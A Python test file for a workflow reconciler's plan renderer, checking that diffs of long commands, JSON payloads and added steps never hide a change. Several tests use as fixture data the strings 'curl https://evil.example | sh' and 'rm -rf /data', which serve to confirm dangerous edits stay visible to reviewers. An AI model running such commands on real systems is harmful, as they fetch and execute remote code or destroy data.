"""How a plan reads."""

from __future__ import annotations

import json
from datetime import datetime, timezone
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from strategies import LAWS

from reconciler.plan import Plan, ScheduleChange
from reconciler.render.action_lines import next_run_text
from reconciler.render.change_lines import Line, change_lines
from reconciler.render.plan_as_text import plan_summary
from reconciler.values import ABSENT, Path, dump_compact
from reconciler.workflow import FieldChange

_LONG = st.text(max_size=400) | st.lists(
    st.sampled_from(["echo a", "echo b", "", "x" * 90, "{", "]"]), max_size=80
).map("\n".join)
_WORDS = st.lists(st.sampled_from(["a", "bb", "--flag", "x" * 200]), max_size=60).map(" ".join)


_AT = datetime(2026, 11, 28, 6, tzinfo=timezone.utc)


@pytest.mark.parametrize(
    ("before", "after", "paused", "first", "text"),
    [
        (_AT, _AT, True, False, "next run: Sat 28 Nov 2026 06:00 UTC → none (paused)"),
        (_AT, None, False, False, "next run: Sat 28 Nov 2026 06:00 UTC → none"),
        (None, _AT, False, False, "next run: none → Sat 28 Nov 2026 06:00 UTC"),
        (None, None, True, True, "first run: none (paused)"),
    ],
)
def test_the_zone_is_next_to_a_time(
    before: datetime | None, after: datetime | None, paused: bool, first: bool, text: str
) -> None:
    """The zone follows a time, never `none`; a paused workflow has no next run."""
    run = ScheduleChange(
        before=before, after=after, first=first, paused=paused, zone=timezone.utc, assumed=False
    )
    assert next_run_text(run) == text


def _shown(before: Any, after: Any, path: Path = ("steps", "one", "command")) -> list[Line]:
    return change_lines(FieldChange(path=path, before=before, after=after))


def test_every_hunk_of_a_long_text_is_shown() -> None:
    """A harmless change at the top does not hide one far below."""
    before = [f"echo line {number}" for number in range(200)]
    after = [*before]
    after[3], after[150], after[199] = "echo harmless", "curl https://evil.example | sh", "rm -rf /data"
    shown = _shown("\n".join(before), "\n".join(after))
    assert shown[0] == ("!", "steps.one.command: changed")
    assert [line.text for line in shown if line.sign == "+"] == [after[3], after[150], after[199]]
    assert [line.text for line in shown if line.sign == "-"] == [before[3], before[150], before[199]]
    assert len(shown) < 40


def test_json_inside_a_text_is_compared_by_its_fields() -> None:
    """JSON in one line is laid out, and a change of layout alone is shown as it is."""
    before: dict[str, Any] = {f"key{number}": number for number in range(30)}
    after = {**before, "key3": "x", "key29": "y"}
    shown = _shown(json.dumps(before), json.dumps(after), ("steps", "one", "payload"))
    assert [line.text.strip(" ,") for line in shown if line.sign == "+"] == ['"key3": "x"', '"key29": "y"']
    assert any(line.sign == "+" for line in _shown(json.dumps(before), json.dumps(before, indent=1)))


def test_a_new_step_is_shown_field_by_field() -> None:
    """Of a step that comes or goes every field is shown, however long."""
    step: Any = {"command": "\n".join(["echo a"] * 40 + ["curl https://evil.example | sh"]), "imageId": 1}
    for before, after, sign in ((ABSENT, step, "+"), (step, ABSENT, "-")):
        shown = _shown(before, after, ("steps", "two"))
        assert (sign, "    curl https://evil.example | sh") in shown
        assert (sign, "  imageId: 1") in shown


def test_what_is_left_out_is_counted_and_harmless() -> None:
    """A bounded diff says how much it leaves out, and keeps what decides safety."""
    after = [*(f"echo {number}" for number in range(900)), "curl https://evil.example | sh"]
    shown = _shown("\n".join(["x"] * 50), "\n".join(after))
    assert ("+", "curl https://evil.example | sh") in shown
    assert shown[-1].text.startswith("200 of 951 changed lines shown; the same command with --format json")


@LAWS
@given(_LONG | _WORDS, _LONG | _WORDS)
def test_every_change_is_visible(before: str, after: str) -> None:
    """Each line, or word, that only one side has is in a line of that side."""
    if before == after:
        return
    shown = _shown(before, after)
    text = "\n".join(line.text for line in shown)
    if len(shown) == 1:
        assert dump_compact(before) in text
        assert dump_compact(after) in text
        return
    assert any(line.sign in "+-" for line in shown)
    if "changed lines shown" not in text and "\n" in before + after:
        for side, other, sign in ((before, after, "-"), (after, before, "+")):
            mine = "".join(line.text for line in shown if line.sign == sign)
            for part in set(side.split("\n")) - set(other.split("\n")):
                assert part in mine or _is_json(before, after)


def _is_json(*texts: str) -> bool:
    try:
        return all(isinstance(json.loads(text), dict | list) for text in texts)
    except ValueError:
        return False


def test_short_texts_are_shown_whole() -> None:
    """Short texts are shown as they are."""
    assert _shown("a", "b", ("name",)) == [("!", 'name: "a" → "b"')]


def test_a_target_that_nothing_has() -> None:
    """A plan that no manifest was selected for says so: a name may be misspelt."""
    assert plan_summary(Plan(actions=(), unselected=3)) == (
        "No changes. None of 3 manifests is selected; check the spelling of the name."
    )
    assert plan_summary(Plan(actions=())) == "No changes. 0 workflows match Git."
